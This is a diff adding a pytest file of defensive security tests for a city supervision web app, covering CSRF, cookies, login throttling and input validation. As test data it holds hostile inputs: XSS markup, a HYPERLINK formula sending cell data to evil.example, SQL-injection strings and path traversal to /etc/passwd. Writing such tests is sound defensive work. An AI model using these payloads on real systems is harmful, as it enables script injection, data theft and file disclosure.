@@ -1,0 +1,275 @@
+"""A hostile visitor against the city's supervision pages (/city): forged forms, stolen-cookie hygiene, password
+guessing, odd period/district/station parameters, markup and formulas synced by a device, and paths in downloads.
+
+The pages answer bad input with a 4xx and a specific Chinese message, never a 500; text a station synced is shown as
+text on the pages and stays text in the .xlsx return."""
+
+import re
+import uuid
+from datetime import timedelta
+from io import BytesIO
+
+import httpx
+import pytest
+from openpyxl import load_workbook
+
+from heze_station.domain import chinatime
+from heze_station.domain.ids import new_id
+from heze_station.server.models import Station
+from heze_station.server.web import accounts
+
+from .conftest import Server
+
+NAME, PASSWORD = "市局督导", "正确的密码 correct horse"
+MARKUP = '<script>alert("驿站")</script><img src=x onerror=alert(1)>'
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+
+
+def sign_in_form(http: httpx.Client) -> str:
+    page = http.get("/city/sign-in")
+    assert page.status_code == 200
+    return re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
+
+
+def post_sign_in(http: httpx.Client, password: str, name: str = NAME) -> httpx.Response:
+    return http.post("/city/sign-in", data={"csrf": sign_in_form(http), "name": name, "password": password})
+
+
+@pytest.fixture
+def supervisor(server: Server) -> Server:
+    with server.database.transaction() as session:
+        accounts.create_supervisor(session, NAME, PASSWORD)
+    return server
+
+
+@pytest.fixture
+def browser(supervisor: Server) -> httpx.Client:
+    """A signed-in visitor (cookies kept as a browser keeps them)."""
+    http = httpx.Client(base_url=supervisor.url, follow_redirects=False, timeout=30)
+    assert post_sign_in(http, PASSWORD).status_code == 303
+    return http
+
+
+def csrf_of(page: httpx.Response) -> str:
+    return re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
+
+
+# --- forms, cookies and guessing ------------------------------------------------------------------------------------
+
+
+def test_the_session_cookie_is_kept_from_scripts_other_sites_and_other_paths(supervisor: Server) -> None:
+    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
+    signed = post_sign_in(http, PASSWORD)
+    cookie = next(value for name, value in signed.headers.multi_items() if value.startswith("heze_city_session="))
+    flags = {part.strip().split("=")[0].lower() for part in cookie.split(";")}
+    assert {"httponly", "samesite", "path", "max-age"} <= flags
+    assert "samesite=strict" in cookie.lower()
+    assert "path=/city" in cookie.lower()
+    assert "secure" not in flags  # plain http on loopback: a Secure cookie would never come back
+
+
+@pytest.mark.parametrize(
+    "form",
+    [
+        {},
+        {"csrf": ""},
+        {"csrf": "forged"},
+        {"csrf": "中文令牌"},
+        {"csrf": "\x00" * 64},
+    ],
+)
+def test_a_forged_sign_out_is_refused_and_the_session_stays(browser: httpx.Client, form: dict) -> None:
+    answer = browser.post("/city/sign-out", data=form)
+    assert answer.status_code == 403
+    assert "请刷新页面后重试" in answer.text
+    assert browser.get("/city/").status_code == 200
+
+
+def test_a_sign_in_from_another_site_is_refused(supervisor: Server) -> None:
+    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
+    answer = http.post("/city/sign-in", data={"csrf": "whatever", "name": NAME, "password": PASSWORD})
+    assert answer.status_code == 403
+    assert "没有执行任何操作" in answer.text
+    assert "heze_city_session" not in answer.headers.get("set-cookie", "")
+
+
+def test_the_sign_out_of_the_right_form_ends_the_session_for_its_copied_cookie(browser: httpx.Client) -> None:
+    page = browser.get("/city/")
+    copied = dict(browser.cookies)
+    assert browser.post("/city/sign-out", data={"csrf": csrf_of(page)}).status_code == 303
+    thief = httpx.Client(base_url=str(browser.base_url), cookies=copied, follow_redirects=False)
+    assert thief.get("/city/").status_code == 303
+
+
+def test_guessing_passwords_is_throttled_with_a_message_and_then_even_the_right_one_is_not_tried(
+    supervisor: Server,
+) -> None:
+    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
+    allowed = supervisor.settings.auth_failures_allowed
+    answers = [post_sign_in(http, f"猜测 {attempt}") for attempt in range(allowed + 1)]
+    assert answers[0].status_code == 401
+    assert "用户名或密码不正确" in answers[0].text
+    assert answers[-1].status_code == 429
+    assert "错误次数过多" in answers[-1].text
+    right = post_sign_in(http, PASSWORD)
+    assert right.status_code == 429
+    assert "heze_city_session" not in right.headers.get("set-cookie", "")
+
+
+@pytest.mark.parametrize("name", ["名" * 5000, "\x00", "' OR 1=1 --", "\u202e督导市"])
+def test_an_odd_name_is_just_a_wrong_sign_in(supervisor: Server, name: str) -> None:
+    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
+    answer = post_sign_in(http, "x", name=name)
+    assert answer.status_code == 401, answer.text
+    assert "用户名或密码不正确" in answer.text
+
+
+def test_a_page_without_a_session_or_with_a_made_up_one_sends_to_sign_in(supervisor: Server) -> None:
+    for cookies in ({}, {"heze_city_session": "made-up"}, {"heze_city_session": "a" * 4000}):
+        http = httpx.Client(base_url=supervisor.url, cookies=cookies, follow_redirects=False)
+        for path in ("/city/", "/city/figures", "/city/overdue", "/city/returns.xlsx"):
+            answer = http.get(path)
+            assert (answer.status_code, answer.headers["location"]) == (303, "/city/sign-in"), path
+
+
+# --- parameters -----------------------------------------------------------------------------------------------------
+
+PAGES = ("/city/figures", "/city/overdue", "/city/returns.xlsx")
+
+
+@pytest.mark.parametrize(
+    ("period", "message"),
+    [
+        ("2026-13", "不是一个期间"),
+        ("2026-W99", "不是一个期间"),
+        ("0000", "不是一个期间"),
+        ("0001", "不是一个期间"),
+        ("99999999999999999999", "不是一个期间"),
+        ("2026-11\x00", "不是一个期间"),
+        ("<script>", "不是一个期间"),
+        ("2026" * 2000, "不是一个期间"),
+        ("1900-01-01..2100-12-31", "超过一年"),
+    ],
+)
+def test_a_period_that_is_not_one_is_a_4xx_that_says_so(browser: httpx.Client, period: str, message: str) -> None:
+    for path in ("/city/figures", "/city/returns.xlsx"):
+        answer = browser.get(path, params={"period": period})
+        assert answer.status_code == 422, (path, answer.status_code)
+        assert message in answer.text, path
+        assert "<script>" not in answer.text
+        assert answer.headers["content-type"].startswith("text/html")
+
+
+@pytest.mark.parametrize("period", ["２０２６-１１", "٢٠٢٦-11"])
+def test_a_period_in_other_digits_is_read_as_the_same_period(browser: httpx.Client, period: str) -> None:
+    page = browser.get("/city/figures", params={"period": period})
+    assert page.status_code == 200
+    assert "2026年11月" in page.text
+    download = browser.get("/city/returns.xlsx", params={"period": period})
+    assert download.headers["content-disposition"].endswith("-2026-11.xlsx")
+
+
+@pytest.mark.parametrize(
+    ("parameters", "message"),
+    [
+        ({"station": "not-a-uuid"}, "不是驿站编号"),
+        ({"station": "\x00"}, "不是驿站编号"),
+        ({"station": "' OR 1=1 --"}, "不是驿站编号"),
+        ({"station": str(uuid.UUID(int=0))}, "没有这个驿站"),
+        ({"station": str(new_id())}, "没有这个驿站"),
+        ({"district": "不存在区"}, "没有这个区县"),
+        ({"district": "\x00"}, "没有这个区县"),
+        ({"district": "<b>区</b>"}, "没有这个区县"),
+        ({"district": "=1+1"}, "没有这个区县"),
+        ({"district": "区" * 2_000}, "没有这个区县"),
+    ],
+)
+def test_a_station_or_district_that_is_not_one_is_a_4xx_that_says_so(
+    browser: httpx.Client, parameters: dict, message: str
+) -> None:
+    for path in PAGES:
+        answer = browser.get(path, params=parameters)
+        assert answer.status_code in (404, 422), (path, answer.status_code, answer.text[:300])
+        assert message in answer.text, path
+        assert "<b>区" not in answer.text
+
+
+def test_the_pages_and_the_return_open_for_a_real_station_and_district(supervisor: Server, browser) -> None:
+    station = supervisor.create_station("城区驿站")
+    with supervisor.database.transaction() as session:
+        session.get(Station, station).district = "牡丹区"
+    for parameters in ({"station": str(station)}, {"district": "牡丹区"}, {"station": str(station).upper()}):
+        for path in PAGES:
+            assert browser.get(path, params=parameters).status_code == 200, (path, parameters)
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/city/../v1/sync/changes", "/city/returns.xlsx/../../etc/passwd", "/city/%2e%2e/%2e%2e/etc/passwd",
+     "/city/returns.xlsx%00.html", "/city/..%2f..%2fpyproject.toml"],
+)  # fmt: skip
+def test_no_path_reaches_outside_the_pages(browser: httpx.Client, path: str) -> None:
+    answer = browser.get(path)
+    assert answer.status_code in (303, 401, 404, 405), answer.status_code
+    assert "root:" not in answer.text
+    assert "[project]" not in answer.text
+
+
+def test_the_return_is_named_by_its_period_whatever_was_asked(browser: httpx.Client) -> None:
+    answer = browser.get("/city/returns.xlsx", params={"period": "2026-11"})
+    assert answer.status_code == 200
+    disposition = answer.headers["content-disposition"]
+    assert disposition.startswith("attachment; filename*=UTF-8''")
+    assert "/" not in disposition.partition("''")[2]
+    assert disposition.endswith("-2026-11.xlsx")
+
+
+# --- what a device synced, on the pages and in the return -----------------------------------------------------------
+
+
+@pytest.fixture
+def hostile_station(supervisor: Server) -> uuid.UUID:
+    """A station named with markup whose laptop synced a case and a project named with markup and a formula: the case
+    is overdue, and received this month."""
+    station = supervisor.create_station(FORMULA)
+    with supervisor.database.transaction() as session:
+        session.get(Station, station).district = "@SUM(1+1)"
+    laptop = supervisor.device(station)
+    project = new_id()
+    today = chinatime.today()
+    laptop.push_ok(
+        laptop.transaction(
+            laptop.op("project", project, {"name": FORMULA}),
+            laptop.op("case_file", new_id(), {"number": MARKUP[:40], "respondent_summary": MARKUP,
+                                              "status": "accepted", "project_id": str(project),
+                                              "received_on": (today - timedelta(days=60)).isoformat()}),
+            laptop.op("case_file", new_id(), {"number": "-2+3", "respondent_summary": FORMULA,
+                                              "status": "accepted", "project_id": str(project),
+                                              "received_on": today.isoformat()}),
+        )
+    )  # fmt: skip
+    with supervisor.database.transaction() as session:
+        session.get(Station, supervisor.create_station(MARKUP)).district = "<i>牡丹区</i>"
+    return station
+
+
+def test_markup_synced_by_a_device_is_shown_as_text(browser: httpx.Client, hostile_station: uuid.UUID) -> None:
+    for path in ("/city/", "/city/overdue", "/city/figures", f"/city/figures?station={hostile_station}"):
+        page = browser.get(path)
+        assert page.status_code == 200, path
+        assert "<script>" not in page.text, path
+        assert "<img" not in page.text, path
+    assert "&lt;script&gt;" in browser.get("/city/overdue").text
+
+
+def test_a_formula_synced_by_a_device_stays_text_in_the_return(
+    browser: httpx.Client, hostile_station: uuid.UUID
+) -> None:
+    for parameters in ({}, {"station": str(hostile_station)}, {"district": "@SUM(1+1)"}):
+        answer = browser.get("/city/returns.xlsx", params=parameters)
+        assert answer.status_code == 200, (parameters, answer.text[:300])
+        workbook = load_workbook(BytesIO(answer.content))
+        texts = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        assert not [cell.coordinate for cell in texts if cell.data_type == "f"]
+        shown = {str(cell.value) for cell in texts}
+        assert any(FORMULA in value for value in shown), parameters  # the name is there, as text
